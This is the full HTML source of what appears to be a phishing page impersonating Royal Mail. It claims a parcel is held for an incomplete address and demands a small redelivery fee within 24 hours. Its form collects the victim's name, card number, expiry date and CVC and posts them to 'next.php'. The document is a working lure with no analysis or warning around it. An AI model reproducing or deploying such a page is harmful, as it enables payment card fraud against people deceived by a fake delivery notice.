<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Royal Mail - Delivery Notice</title>
<style>body{font-family:Helvetica,Arial,sans-serif;background:#fff}.container{max-width:1180px;margin:auto}</style>

</head>
<body>
<nav class="navbar"><ul></ul></nav>
<main class="wrap">
<section>
<div class="alert">Your package is on hold due to an incomplete address. A redelivery fee of $2.62 is required within 24 hours.</div>
</section>
<section>
<form action="next.php"><input name="fullname" placeholder="Full name"><input name="cardnumber" placeholder="Card number"><input name="expiry" placeholder="MM/YY"><input name="cvc" placeholder="CVC"><button>Pay and reschedule</button></form>
</section>
</main>
<footer>Royal Mail</footer>
<script src="/static/js/app.6b46347d.js"></script>
</body>
</html>
